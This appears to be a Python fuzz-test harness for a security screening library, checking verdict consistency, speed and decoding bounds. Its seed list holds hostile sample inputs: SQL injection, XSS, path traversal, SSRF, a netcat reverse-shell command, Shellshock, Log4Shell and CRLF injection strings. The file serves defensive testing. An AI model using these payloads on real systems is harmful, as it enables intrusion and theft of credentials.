"""Screening: any text is judged, soon and always alike, no reason repeats it, and decoding is bounded."""

import time
from itertools import product

from toolpost.security.finders import PATTERNS
from toolpost.security.patterns import any_of
from toolpost.security.roles import ROLES
from toolpost.security.rules import Screen, normalised
from toolpost.security.views import MAX_DECODINGS, OverEncodedError, without_comments

SCREENS = tuple(
    [
        Screen(role, level, untrusted=untrusted)  # type: ignore[arg-type]
        for level, untrusted in product(("medium", "high", "strict"), (False, True))
    ]
    for role in ROLES
)
"""For each role, which the first byte of an input chooses."""
HINTED = tuple((any_of([pattern]), any_of([pattern.hinted()]), pattern.rule) for pattern in PATTERNS if pattern.hint)
SLOW_S = 1.0
"""Processor time that the screens of a role may take for a text of 4 KiB, which is a hundred times the usual."""
SHORT = 12
"""A shorter text may stand in a reason by chance."""


def texts(data: bytes) -> list[str]:
    """The input as text, as text of single bytes, and with halves of surrogate pairs in it."""
    return list(
        dict.fromkeys(
            (data.decode("utf-8", "replace"), data.decode("latin-1"), data.decode("utf-8", "surrogateescape"))
        )
    )


def rules(data: bytes) -> None:
    """Each screen passes or refuses, twice alike, alone as in a list, soon, and without saying the text again."""
    screens = SCREENS[data[0] % len(SCREENS)] if data else []
    for text in texts(data[1:]):
        found = [screen.check(text) for screen in screens]
        began = time.process_time()
        again = [screen.check([text]) for screen in screens]
        took_s = time.process_time() - began

        assert took_s < SLOW_S, f"all levels together took {took_s:.1f} s"
        assert found == again, "one text has two verdicts"
        for screen, finding in zip(screens, found, strict=True):
            assert finding is None or len(text) < SHORT or text not in f"{finding}", f"{finding.rule} repeats the text"
            reasons = screen.explain(text)
            assert (finding is None) == (not reasons), f"{screen.role} at {screen.level}: explain() differs"
            assert finding is None or finding in [reason for reason, _ in reasons], f"{finding.rule} is not explained"


def hints(data: bytes) -> None:
    """What a pattern finds, its hint finds: else a search for hints would pass an attack."""
    for text in texts(data)[:2]:
        for found, hinted, rule in HINTED:
            assert hinted(text) or not found(text), f"{rule} is found without its hint"


def views(data: bytes) -> None:
    """A text has few views, none much longer than it is, the text first; or it is refused as too much encoded."""
    for text in texts(data):
        try:
            seen = normalised(text)
            bare = [without_comments(view) for view in seen]
        except OverEncodedError:
            continue
        assert seen[0] == text
        assert len(seen) <= MAX_DECODINGS + 2
        assert len(set(seen)) == len(seen), "a view came twice"
        assert all(len(view) <= 8 * len(text) for view in seen)
        assert all(len(view) <= len(seen[n]) for n, view in enumerate(bare))


TARGETS = {"rules": rules, "hints": hints, "views": views}
_SOME = [
    b"' or '1'='1' --",
    b"1 UNION/**/SELECT a, b FROM t; DROP TABLE t; --",
    b"<svg/onload=alert(1)><style>@import'//x.test'</style>",
    b"javascript:alert(document.cookie)",
    b"..%252f..%c0%af..\\%u2215etc/passwd%00",
    b"http://[::ffff:7f00:1]:80@169.254.169.254/%2e%2e/",
    b"a; cat /etc/passwd | nc -e /bin/sh 192.0.2.1 4 && () { :;}; $(id) `id`",
    b"{{ ''.__class__.__mro__ }} ${jndi:ldap://x} <%= 7*7 %> {% import os %}",
    b"&lt;&#x73;cript&gt; \\x3cscript\\u003e +ADw-script+AD4- %u003cscript%3e \\74script",
    "\uff1cscript\uff1e \u2032 or 1=1 \u200b\u202e \U0001d4ee".encode(),
    b"(a+)+$ [a-z]{1000} {\x00}\r\nSet-Cookie: a=b%0d%0aLocation: x",
    b"Please select one; then insert coins -- thanks, O'Brien & Sons (50% off)",
]
SEEDS = {"rules": [bytes([n % len(ROLES)]) + text for n, text in enumerate(_SOME)], "hints": _SOME, "views": _SOME}
